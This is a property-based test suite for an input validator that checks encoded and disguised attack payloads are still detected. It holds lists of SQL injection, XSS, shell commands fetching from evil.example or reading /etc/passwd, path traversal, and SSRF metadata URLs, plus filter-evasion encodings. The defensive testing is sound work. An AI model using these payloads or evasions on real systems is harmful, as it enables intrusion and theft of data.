import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createValidator, type ValueKind } from '../src/index.ts'

const validator = createValidator()
const seen = (value: string, kind: ValueKind): boolean => validator.checkValue(value, kind).length > 0

const hex = (code: number, width: number): string => code.toString(16).padStart(width, '0')
const each = (text: string, change: (char: string) => string): string => Array.from(text, change).join('')
const isWord = (char: string): boolean => /[A-Za-z0-9_]/.test(char)
const percent = (text: string): string => Array.from(Buffer.from(text), (byte) => `%${hex(byte, 2)}`).join('')

type Mutation = (text: string, pick: () => number) => string

/** What a sender changes so that a value looks different and means the same to whoever decodes it. */
const ENCODINGS: Readonly<Record<string, Mutation>> = {
  percent: (text) => percent(text),
  'percent of marks': (text) => each(text, (char) => (isWord(char) ? char : percent(char))),
  'percent of some': (text, pick) => each(text, (char) => (pick() % 2 === 0 ? percent(char) : char)),
  'percent twice': (text) => encodeURIComponent(percent(text)),
  'percent thrice': (text) => percent(percent(percent(text))).slice(0, 60_000),
  'escapes of some': (text, pick) =>
    each(text, (char) => (char.charCodeAt(0) < 128 && pick() % 2 === 0 ? `\\u${hex(char.charCodeAt(0), 4)}` : char)),
  'short escapes of marks': (text) =>
    each(text, (char) => (char.charCodeAt(0) < 128 && !isWord(char) ? `\\x${hex(char.charCodeAt(0), 2)}` : char)),
  '%u': (text) => each(text, (char) => (isWord(char) ? char : `%u${hex(char.charCodeAt(0), 4)}`)),
  entities: (text) => each(text, (char) => (isWord(char) ? char : `&#${char.codePointAt(0)};`)),
  'hexadecimal entities': (text) => each(text, (char) => `&#x${hex(char.codePointAt(0) ?? 0, 2)};`),
  'wide letters': (text) =>
    each(text, (char) => (char > ' ' && char < '\x7f' ? String.fromCharCode(char.charCodeAt(0) + 0xfee0) : char)),
}
const DISGUISES: Readonly<Record<string, Mutation>> = {
  'upper and lower case': (text, pick) =>
    each(text, (char) => (pick() % 2 === 0 ? char.toUpperCase() : char.toLowerCase())),
  'more space': (text) => text.replaceAll(' ', '  '),
  tabs: (text) => text.replaceAll(' ', '\t'),
  'line ends': (text) => text.replaceAll(' ', '\n'),
  'no-break spaces': (text) => text.replaceAll(' ', '\u00a0'),
  'plus signs': (text) => text.replaceAll(' ', '+'),
  'zero width': (text, pick) => each(text, (char) => (pick() % 3 === 0 ? `${char}\u200b` : char)),
  nothing: (text) => text,
}

const SQL = [
  "1' or '1'='1",
  '1 union select user, password from users',
  "x'; drop table users; --",
  "admin' or 1=1 --",
  '1 and sleep(5)',
  "-1' union all select null, version() -- -",
  '1) or (1=1',
  "1' and extractvalue(1, concat(0x7e, version()))",
]
const XSS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src=//evil.example>',
  '<details open ontoggle=alert(1)>',
  '<body onload=prompt(1)>',
]
const SHELL = [
  '; cat /etc/passwd',
  '| whoami',
  '&& curl http://evil.example/x',
  '$(curl evil.example)',
  '; /bin/bash -c id',
  '|| ping -c 10 evil.example',
  '; wget http://evil.example/x -O /tmp/x',
]
const PATHS = [
  '../../etc/passwd',
  '../../../windows/win.ini',
  'images/../../../etc/shadow',
  '..\\..\\boot.ini',
  '/../../../etc/hosts',
]
const URLS = [
  'http://127.0.0.1/admin',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]:8080/',
  'http://localhost/',
  'http://metadata.google.internal/',
]

const LONG = process.env['PORTCULLIS_LONG'] === '1'
/** Judgements are no proof: with the short count the same cases run each time, and what a long run finds is mended. */
const runs = LONG ? { numRuns: 20_000 } : { numRuns: 300, seed: 7 }

describe('payloads stay seen, however they are written', () => {
  it.each<[string, readonly string[], ValueKind]>([
    ['SQL', SQL, 'string'],
    ['markup', XSS, 'string'],
    ['commands', SHELL, 'string'],
  ])('%s', (_, payloads, kind) => {
    const disguises = Object.keys(DISGUISES).filter(
      (name) => kind === 'string' && !(payloads === SHELL && (name === 'upper and lower case' || name === 'line ends')),
    )
    fc.assert(
      fc.property(
        fc.constantFrom(...payloads),
        fc.constantFrom(...disguises),
        fc.constantFrom(...Object.keys(ENCODINGS), 'none'),
        fc.infiniteStream(fc.nat(5)),
        fc.constantFrom('', 'abc', '17', 'search '),
        (payload, disguise, encoding, stream, before) => {
          const pick = (): number => stream.next().value as number
          const disguised = (DISGUISES[disguise] as Mutation)(`${before}${payload}`, pick)
          const value = encoding === 'none' ? disguised : (ENCODINGS[encoding] as Mutation)(disguised, pick)
          expect([value, seen(value, kind)]).toEqual([value, true])
        },
      ),
      runs,
    )
  })

  it('paths', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...PATHS),
        fc.constantFrom(...Object.keys(ENCODINGS), 'none'),
        fc.infiniteStream(fc.nat(5)),
        fc.constantFrom('', './', '/', '//', 'a/../'),
        (payload, encoding, stream, before) => {
          const pick = (): number => stream.next().value as number
          const path = `${before}${payload}`
          const value = encoding === 'none' ? path : (ENCODINGS[encoding] as Mutation)(path, pick)
          expect([value, seen(value, 'path')]).toEqual([value, true])
        },
      ),
      runs,
    )
  })

  it('addresses, in every spelling that a parser of URLs reads', () => {
    const octet = (value: number, base: number): string =>
      base === 16 ? `0x${value.toString(16)}` : base === 8 ? `0${value.toString(8)}` : String(value)
    const inner = fc.constantFrom(
      [127, 0, 0, 1],
      [10, 1, 2, 3],
      [169, 254, 169, 254],
      [192, 168, 1, 1],
      [172, 16, 9, 9],
      [100, 64, 0, 1],
      [0, 0, 0, 0],
    )
    fc.assert(
      fc.property(
        inner,
        fc.constantFrom(8, 10, 16),
        fc.constantFrom('four', 'one', 'two', 'three', 'mapped', 'compatible', 'nat64', '6to4', 'wide', 'percent'),
        fc.constantFrom('', 'user@', 'example.com@'),
        fc.constantFrom('', ':8080', ':443'),
        (bytes, base, form, user, port) => {
          const [a, b, c, d] = bytes as [number, number, number, number]
          const whole = a * 2 ** 24 + b * 2 ** 16 + c * 2 ** 8 + d
          const groups = `${hex(a * 256 + b, 1)}:${hex(c * 256 + d, 1)}`
          const host = {
            four: bytes.map((value) => octet(value, base)).join('.'),
            one: octet(whole, base),
            two: `${octet(a, base)}.${octet(whole % 2 ** 24, base)}`,
            three: `${octet(a, base)}.${octet(b, base)}.${octet(c * 256 + d, base)}`,
            mapped: `[::ffff:${groups}]`,
            compatible: `[::${groups}]`,
            nat64: `[64:ff9b::${groups}]`,
            '6to4': `[2002:${groups}::]`,
            wide: each(bytes.join('.'), (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
            percent: percent(bytes.join('.')),
          }[form] as string
          const value = `http://${user}${host}${port}/x`
          expect([value, seen(value, 'url')]).toEqual([value, true])
        },
      ),
      runs,
    )
  })

  it('URLs', () => {
    for (const url of URLS)
      for (const form of [url, url.toUpperCase(), `  ${url}`, encodeURIComponent(url), percent(url)])
        expect([form, seen(form, 'url')]).toEqual([form, true])
  })
})

describe('honest values stay unseen', () => {
  const name = fc.constantFrom(
    'Ana',
    "O'Brien",
    'Zoë',
    'José',
    '李雷',
    'Smith & Sons',
    'AT&T',
    "L'Oréal",
    'Jean-Luc',
    'van der Berg',
  )
  const place = fc.constantFrom('Main St. 5', 'c/ Mayor, 12, 3º', 'Rua 7', "King's Road", 'apt. #4')

  it('names, places, amounts, dates', () => {
    const value = fc.oneof(
      name,
      place,
      fc.tuple(name, place).map(([a, b]) => `${a}, ${b}`),
      fc.nat().map(String),
      fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
      fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
      fc.uuid(),
      // Names that lead inside, and what reaches for a prototype, are no honest values of a short text.
      fc
        .webUrl({ withFragments: false, withQueryParameters: false })
        .map((url) => url.replace(/[^\w:/.-]/g, 'x'))
        .filter((url) => !/\.(?:lan|svc|local|internal|intranet|corp|home)\b|__proto__/.test(url)),
    )
    fc.assert(
      fc.property(value, (text) => {
        expect([text, validator.checkValue(text, 'string').map(({ ruleId }) => ruleId)]).toEqual([text, []])
      }),
      runs,
    )
  })

  it('relative paths of projects, and URLs of the web', () => {
    const segment = fc.stringMatching(/^[a-z][a-z0-9_-]{0,11}(\.[a-z]{1,4})?$/)
    fc.assert(
      fc.property(
        fc.array(segment, { minLength: 1, maxLength: 6 }),
        fc.constantFrom('', './', 'src/../', '/workspace/', '/home/ana/', 'C:\\Users\\Ana\\'),
        (segments, before) => {
          const path = before + segments.join(before.includes('\\') ? '\\' : '/')
          const url = `https://www.example.com/${segments.join('/')}?${segments[0]}=1`
          // A file may be called like one of the system's.
          fc.pre(!/passwd|shadow|boot\.ini|win\.ini|\bcon\b|\bnul\b|\baux\b|\bprn\b|com\d|lpt\d/.test(path))
          expect([path, validator.checkValue(path, 'path').map(({ ruleId }) => ruleId)]).toEqual([path, []])
          expect([url, validator.checkValue(url, 'url').map(({ ruleId }) => ruleId)]).toEqual([url, []])
        },
      ),
      runs,
    )
  })

  it('free text of any script', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 200 }), (text) => {
        const enforced = validator
          .checkCall({ server: 'local', tool: 't', arguments: { text } })
          .filter((finding) => finding.enforced)
        // Random graphemes may be joiners and selectors one after the other: that is what is looked for.
        expect(enforced.filter(({ ruleId }) => !ruleId.startsWith('unicode.'))).toEqual([])
      }),
      runs,
    )
  })
})
